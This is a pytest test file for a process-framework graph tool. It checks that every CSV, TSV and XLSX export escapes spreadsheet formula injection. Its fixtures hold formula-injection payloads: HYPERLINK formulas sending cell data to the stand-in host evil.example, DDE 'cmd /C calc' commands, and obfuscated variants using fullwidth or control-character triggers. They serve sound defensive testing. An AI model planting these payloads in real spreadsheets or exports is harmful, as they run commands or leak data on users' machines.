"""Formula injection: every CSV/TSV/XLSX the product writes keeps hostile text inert.

The hostile definitions come from a workbook (the way they would reach the graph): the
shipped 8.1 extract with names and definitions that a spreadsheet would run as formulas.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import zipfile
from pathlib import Path

import pyoxigraph as ox
import pytest
from openpyxl import load_workbook

from pcfgraph import iris
from pcfgraph.assemble import framework_quads, load_turtle
from pcfgraph.cells import FORMULA_TRIGGERS, safe_cell, write_csv
from pcfgraph.cli.graph_commands import format_select
from pcfgraph.diff import compare, side_from_workbook
from pcfgraph.diff import to_csv as diff_csv
from pcfgraph.queries import QueryCatalog
from pcfgraph.resources import resource_dir
from pcfgraph.spreadsheet import export_subtree
from pcfgraph.store import EmbeddedStore, SelectResult

SHIPPED = Path(__file__).parents[1] / "fixtures" / "pcf-cross-industry-7.4-group-8.1.xlsx"
APQC_ID = "apqc-pcf-cross-industry-7.4"
HOSTILE = {
    20635: ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"),
    20636: ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    # the fullwidth forms (U+FF1D, U+FF0B, U+FF20, U+FF0D), formula starts in some locales
    20637: ('\uff1dHYPERLINK("http://evil.example/","click")', "\uff0bcmd|' /C calc'!A0"),
    20638: ("\uff20SUM(1+1)*cmd|' /C calc'!A0", "\uff0d2+3+cmd|' /C calc'!A0"),
}
#: What a spreadsheet may run, written out here rather than taken from pcfgraph.cells: a
#: trigger (or its fullwidth form) after any leading spaces or control characters, or a
#: control character first.
RUNNABLE = re.compile(r"^[\s\x00-\x1f\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\x00-\x1f]")


def hostile_workbook(path: Path) -> Path:
    wb = load_workbook(SHIPPED)
    ws = wb["Combined"]
    for row in ws.iter_rows(min_row=2):
        if row[0].value in HOSTILE:
            name, definition = HOSTILE[int(row[0].value)]
            row[2].value, row[6].value = name, definition
            row[2].data_type = row[6].data_type = "s"  # the attacker's cell is text
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("hostile")
    return hostile_workbook(d / "apqc" / "apqc-pcf-cross-industry-7.4.xlsx")


@pytest.fixture(scope="module")
def store(hostile: Path) -> EmbeddedStore:
    quads: list[ox.Quad] = []
    for path in sorted(resource_dir("ontology").glob("*.ttl")):
        quads.extend(load_turtle(path, str(iris.ontology_graph())))
    entry = {
        "id": APQC_ID,
        "kind": "apqc-workbook",
        "files": [f"apqc/{hostile.name}"],
        "edition": "Cross-Industry",
        "version": "7.4",
    }
    quads.extend(framework_quads(hostile.parent.parent, entry))
    s = EmbeddedStore()
    s.add_quads(quads)
    return s


def hostile_texts() -> set[str]:
    return {t for pair in HOSTILE.values() for t in pair}


def assert_csv_inert(data: bytes, delimiter: str = ",") -> set[str]:
    """No cell starts with a formula trigger; returns the cells that were escaped."""
    cells = [
        c
        for row in csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=delimiter)
        for c in row
    ]
    risky = [c for c in cells if RUNNABLE.match(c)]
    assert risky == []
    return {c[1:] for c in cells if c.startswith("'")}


def test_safe_cell_follows_the_owasp_rule() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert safe_cell(f"{trigger}1") == f"'{trigger}1"
    assert safe_cell("Develop a vision") == "Develop a vision"
    for benign in (" Develop", "a=1", "x-y", "\u3000Develop", "'=1"):
        assert safe_cell(benign) == benign
    assert safe_cell(-3) == -3 and safe_cell(None) is None  # numbers stay numbers
    data = write_csv(["a"], [["\r=1+1"], ["\t=1"]], delimiter="\t")
    assert assert_csv_inert(data, "\t") == {"\r=1+1", "\t=1"}
    # A CR inside a cell must not start a new row (whose first cell would be a formula).
    data = write_csv(None, [["note\r=1+1", "b"]])
    assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [["note\r=1+1", "b"]]


#: Spreadsheet payloads that hide their trigger: fullwidth forms (Excel and LibreOffice in East
#: Asian locales), spaces or control characters before it (run once an import trims them), a
#: line feed or NUL first; DDE and HYPERLINK payloads as OWASP lists them.
HIDDEN = (
    '\uff1dHYPERLINK("http://evil.example/")',
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(1+1)",
    " =cmd|' /C calc'!A0",
    "  +1+1",
    "\u3000\uff1d1+1",
    "\u00a0-1+1",
    "\t \t@SUM(A1)",
    "\r\n=1+1",
    '\n=DDE("cmd";"/C calc";"!A0")',
    "\x00=1",
    "\x0b+1",
    "\ufeff=1+1",
)


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_hidden_triggers_are_escaped_in_every_csv(delimiter: str) -> None:
    for text in HIDDEN:
        assert safe_cell(text) == "'" + text, repr(text)
    data = write_csv(["cell"], [[t] for t in HIDDEN], delimiter=delimiter)
    assert assert_csv_inert(data, delimiter) == set(HIDDEN)


def test_hidden_triggers_get_quote_prefix_in_xlsx() -> None:
    from openpyxl import Workbook

    from pcfgraph.cells import safe_xlsx_sheet

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    storable = [t for t in HIDDEN if not ILLEGAL_CHARACTERS_RE.search(t)]  # no NUL, VT
    assert len(storable) >= 10
    for text in storable:
        ws.append([text, "plain"])
    safe_xlsx_sheet(ws)
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(buf).active
    assert back is not None
    for row in back.iter_rows():
        assert row[0].data_type == "s" and row[0].quotePrefix, repr(row[0].value)
        assert not row[1].quotePrefix


def test_the_sparql_page_downloads_with_the_same_rule() -> None:
    """The query page's CSV download (sparql.js) applies the server's pattern, given to it
    by the page, not a copy of its own."""
    import html

    from fastapi.testclient import TestClient
    from test_web_pages import web_app

    from pcfgraph.cells import RISKY_PATTERN

    with TestClient(web_app()) as client:
        r = client.get("/sparql", headers={"accept": "text/html"})
        js = client.get("/assets/sparql.js").text
    m = re.search(r'data-risky-cell="([^"]*)"', r.text)
    assert m is not None and html.unescape(m.group(1)) == RISKY_PATTERN
    assert 'getAttribute("data-risky-cell")' in js and "risky.test(v)" in js
    pattern = re.compile(RISKY_PATTERN)
    assert all(pattern.match(t) for t in HIDDEN) and not pattern.match("Develop")


def test_spreadsheet_csv_export_escapes_hostile_definitions(store: EmbeddedStore) -> None:
    data = export_subtree(store, QueryCatalog(), APQC_ID, "8.1", "csv")
    assert assert_csv_inert(data) >= hostile_texts()


def test_spreadsheet_xlsx_export_writes_strings_never_formulas(store: EmbeddedStore) -> None:
    data = export_subtree(store, QueryCatalog(), APQC_ID, None, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), name  # no formula element
    wb = load_workbook(io.BytesIO(data))
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if cell.value in hostile_texts():
                    assert cell.data_type == "s" and cell.quotePrefix
                    found.add(cell.value)
    assert found == hostile_texts()  # verbatim text, shown as text


def test_diff_csv_escapes_hostile_names_and_definitions(hostile: Path) -> None:
    cat = QueryCatalog()
    result = compare(side_from_workbook(SHIPPED, cat), side_from_workbook(hostile, cat))
    assert assert_csv_inert(diff_csv(result)) >= hostile_texts()


def test_web_diff_download_escapes_hostile_text(hostile: Path) -> None:
    from fastapi.testclient import TestClient
    from test_web_pages import web_app

    with TestClient(web_app()) as client:
        r = client.post(
            "/diff",
            files={
                "old_workbook": (SHIPPED.name, SHIPPED.read_bytes()),
                "new_workbook": (hostile.name, hostile.read_bytes()),
            },
        )
    assert r.status_code == 200
    m = re.search(r'href="data:text/csv;base64,([A-Za-z0-9+/=]+)"', r.text)
    assert m is not None
    assert assert_csv_inert(base64.b64decode(m.group(1))) >= hostile_texts()


def test_cli_query_csv_escapes_hostile_literals() -> None:
    rows = [{"x": ox.Literal(t)} for t in sorted(hostile_texts())]
    data = format_select(SelectResult(("x",), rows), "csv")
    assert assert_csv_inert(data) == hostile_texts()
